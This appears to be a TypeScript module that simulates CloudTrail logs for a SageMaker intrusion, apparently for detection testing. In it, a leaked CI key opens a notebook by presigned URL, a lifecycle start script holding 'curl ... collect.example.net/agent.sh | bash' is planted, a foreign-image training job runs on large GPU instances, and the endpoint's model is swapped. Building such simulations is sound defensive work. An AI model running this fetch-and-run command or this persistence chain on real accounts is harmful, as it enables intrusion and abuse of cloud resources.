import type { JsonObject } from '../../base/json.ts';
import { roleArnOf } from './cast.ts';
import { assumedRole, type Caller } from './cloudtrail-record.ts';
import { pipelineRun } from './delivery-routines.ts';
import { ACCOUNT, FOREIGN_ACCOUNT, HOME_REGION, WORKLOAD, accessKeyId, arn } from './names.ts';
import { personInConsole, type PlantedStory } from './planted-story.ts';
import type { Act, Stage } from './stage.ts';

const SAGEMAKER = 'sagemaker';
const NOTEBOOK = 'reranker-lab';
const ENDPOINT = 'support-reranker';
const SCRIPTS = 'reranker-lab-scripts';
const DOMAIN = 'd-exampledomain1';
/** An image of another account, and a model's artefact in a bucket of it. */
const FOREIGN_IMAGE = `${FOREIGN_ACCOUNT}.dkr.ecr.${HOME_REGION}.amazonaws.com/serving:latest`;
const OWN_IMAGE = `${ACCOUNT}.dkr.ecr.${HOME_REGION}.amazonaws.com/reranker:41`;
const PROJECT = '/example/reranker/';

/**
 * SageMaker: a leaked key of a CI user opens a notebook by a presigned address; from there a script is put into its
 * start, a job of a foreign image runs on large machines, and the endpoint is given a foreign model.
 */
export const NOTEBOOK_STORY: PlantedStory = {
  id: 'presigned-notebook',
  summary:
    "a CI user's leaked key opens a notebook; a start script, a training job and an endpoint's model are no longer the organization's",
  ordinary: (stage) => {
    openOwnNotebook(stage);
    releaseModel(stage);
    rerank(stage);
  },
  incident: (stage) => {
    lookAround(stage);
    openNotebook(stage);
    changeScript(stage);
    trainForeign(stage);
    swapModel(stage);
  },
};

function openOwnNotebook(stage: Stage): void {
  for (const [index, at] of [-150, -95, -40, 35, 100].entries()) {
    stage.call({
      at,
      by: personInConsole(stage, index % 2, at),
      service: SAGEMAKER,
      name: 'CreatePresignedNotebookInstanceUrl',
      request: { notebookInstanceName: NOTEBOOK, sessionExpirationDurationInSeconds: 43_200 },
    });
  }
  for (const [index, at] of [-120, 20].entries()) {
    const by = personInConsole(stage, 2 + index, at);
    stage.call({
      at,
      by,
      service: SAGEMAKER,
      name: 'CreatePresignedDomainUrl',
      request: { domainId: DOMAIN, userProfileName: index === 0 ? 'chiara-rossi' : 'dev-patel' },
    });
  }
}

/** The deployment role trains, registers and rolls out, as it does every week. */
function releaseModel(stage: Stage): void {
  const by = pipelineRun(stage.cast, stage.minute(-130), 4012);
  const name = `${ENDPOINT}-3`;
  const calls: readonly (readonly [string, JsonObject])[] = [
    ['CreateTrainingJob', trainingJob(name, OWN_IMAGE, { instance: 'ml.g5.xlarge', count: 1 })],
    ['CreateModel', model(name, OWN_IMAGE, `s3://${WORKLOAD.artefactBucket}/reranker/3/model.tar.gz`)],
    ['CreateEndpointConfig', endpointConfig(name)],
    ['UpdateEndpoint', { endpointName: ENDPOINT, endpointConfigName: name }],
  ];
  stage.series({
    from: -130,
    every: 4,
    by,
    calls: calls.map(([called, request]) => ({
      service: SAGEMAKER,
      name: called,
      request,
      readOnly: false,
    })),
  });
}

function rerank(stage: Stage): void {
  for (let at = -170; at < 178; at += 4) invokeEndpoint(stage, { at, by: application(stage, at) });
}

function application(stage: Stage, at: number): Caller {
  return stage.cast.session(stage.cast.roles.application, stage.minute(at), { name: WORKLOAD.function });
}

function invokeEndpoint(stage: Stage, act: Pick<Act, 'at' | 'by' | 'signals'>): void {
  stage.call({
    ...act,
    service: SAGEMAKER,
    name: 'InvokeEndpoint',
    data: true,
    host: `runtime.sagemaker.${HOME_REGION}.amazonaws.com`,
    request: { endpointName: ENDPOINT, contentType: 'application/json', accept: 'application/json' },
    resources: [
      {
        accountId: ACCOUNT,
        type: 'AWS::SageMaker::Endpoint',
        ARN: arn(SAGEMAKER, HOME_REGION, `endpoint/${ENDPOINT}`),
      },
    ],
  });
}

function lookAround(stage: Stage): void {
  stage.series({
    from: 0,
    every: 0.4,
    by: stage.intruder.leakedKey,
    calls: [
      { service: 'sts', name: 'GetCallerIdentity', signals: ['A7'] },
      { service: SAGEMAKER, name: 'ListNotebookInstances' },
      { service: SAGEMAKER, name: 'ListDomains' },
      { service: SAGEMAKER, name: 'ListEndpoints' },
      {
        service: SAGEMAKER,
        name: 'DescribeNotebookInstance',
        request: { notebookInstanceName: NOTEBOOK },
      },
    ],
  });
}

/** The address is all it takes: who opens it works with the notebook's role. */
function openNotebook(stage: Stage): void {
  const by = stage.intruder.leakedKey;
  stage.call({
    at: 6,
    by,
    signals: ['SM-access'],
    service: SAGEMAKER,
    name: 'CreatePresignedNotebookInstanceUrl',
    request: { notebookInstanceName: NOTEBOOK },
  });
  stage.call({
    at: 6.5,
    by,
    signals: ['SM-access'],
    service: SAGEMAKER,
    name: 'CreatePresignedDomainUrl',
    request: { domainId: DOMAIN, userProfileName: 'chiara-rossi', expiresInSeconds: 300 },
  });
}

/** The notebook's role, as what runs in the notebook calls with it. */
function inNotebook(stage: Stage): Caller {
  return {
    identity: assumedRole({
      role: stage.cast.roles.platform,
      name: 'SageMaker',
      accessKeyId: accessKeyId(stage.random.fork('notebook'), 'ASIA'),
      createdAt: stage.minute(5),
    }),
    address: '192.0.2.171',
    userAgent: 'Boto3/1.34.69 md/Botocore#1.34.69 ua/2.0 os/linux#5.10 lang/python#3.10.14',
  };
}

function changeScript(stage: Stage): void {
  const by = inNotebook(stage);
  const content = Buffer.from('#!/bin/bash\ncurl -s https://collect.example.net/agent.sh | bash\n').toString(
    'base64',
  );
  const named = { notebookInstanceName: NOTEBOOK };
  const script = { notebookInstanceLifecycleConfigName: SCRIPTS, onStart: [{ content }] };
  const calls: readonly (readonly [string, JsonObject])[] = [
    ['CreateNotebookInstanceLifecycleConfig', script],
    ['StopNotebookInstance', named],
    ['UpdateNotebookInstance', { ...named, lifecycleConfigName: SCRIPTS }],
    ['StartNotebookInstance', named],
    ['UpdateNotebookInstanceLifecycleConfig', script],
  ];
  stage.series({
    from: 14,
    every: 3,
    by,
    calls: calls.map(([name, request]) => ({
      service: SAGEMAKER,
      name,
      request,
      readOnly: false,
      signals: name.endsWith('LifecycleConfig') ? ['M12'] : [],
    })),
  });
}

function trainForeign(stage: Stage): void {
  stage.call({
    at: 34,
    by: inNotebook(stage),
    signals: ['M12', 'D9'],
    service: SAGEMAKER,
    name: 'CreateTrainingJob',
    request: trainingJob('tune-8842', FOREIGN_IMAGE, { instance: 'ml.p4d.24xlarge', count: 4 }),
    response: { trainingJobArn: arn(SAGEMAKER, HOME_REGION, 'training-job/tune-8842') },
  });
}

function swapModel(stage: Stage): void {
  const by = inNotebook(stage);
  const name = `${ENDPOINT}-new`;
  const artefact = `s3://serving-${FOREIGN_ACCOUNT}/reranker/model.tar.gz`;
  const change = (at: number, called: string, request: JsonObject): void => {
    stage.call({ at, by, signals: ['M12'], service: SAGEMAKER, name: called, request });
  };
  change(52, 'CreateModel', model(name, FOREIGN_IMAGE, artefact));
  change(53, 'CreateEndpointConfig', endpointConfig(name));
  change(54, 'UpdateEndpoint', { endpointName: ENDPOINT, endpointConfigName: name });
  for (let index = 0; index < 6; index += 1)
    invokeEndpoint(stage, { at: 66 + index, by: stage.intruder.leakedKey, signals: ['SM-runtime'] });
}

function trainingJob(
  trainingJobName: string,
  trainingImage: string,
  { instance, count }: { readonly instance: string; readonly count: number },
): JsonObject {
  return {
    trainingJobName,
    algorithmSpecification: { trainingImage, trainingInputMode: 'File' },
    roleArn: roleArnOf('platform'),
    inputDataConfig: [
      {
        channelName: 'train',
        dataSource: {
          s3DataSource: {
            s3DataType: 'S3Prefix',
            s3Uri: `s3://${WORKLOAD.artefactBucket}${PROJECT}train/`,
            s3DataDistributionType: 'FullyReplicated',
          },
        },
      },
    ],
    outputDataConfig: { s3OutputPath: `s3://${WORKLOAD.artefactBucket}${PROJECT}out/` },
    resourceConfig: { instanceType: instance, instanceCount: count, volumeSizeInGB: 100 },
    stoppingCondition: { maxRuntimeInSeconds: 86_400 },
  };
}

function model(modelName: string, image: string, modelDataUrl: string): JsonObject {
  return { modelName, primaryContainer: { image, modelDataUrl }, executionRoleArn: roleArnOf('platform') };
}

function endpointConfig(name: string): JsonObject {
  return {
    endpointConfigName: name,
    productionVariants: [
      {
        variantName: 'AllTraffic',
        modelName: name,
        initialInstanceCount: 2,
        instanceType: 'ml.g5.xlarge',
        initialVariantWeight: 1,
      },
    ],
  };
}
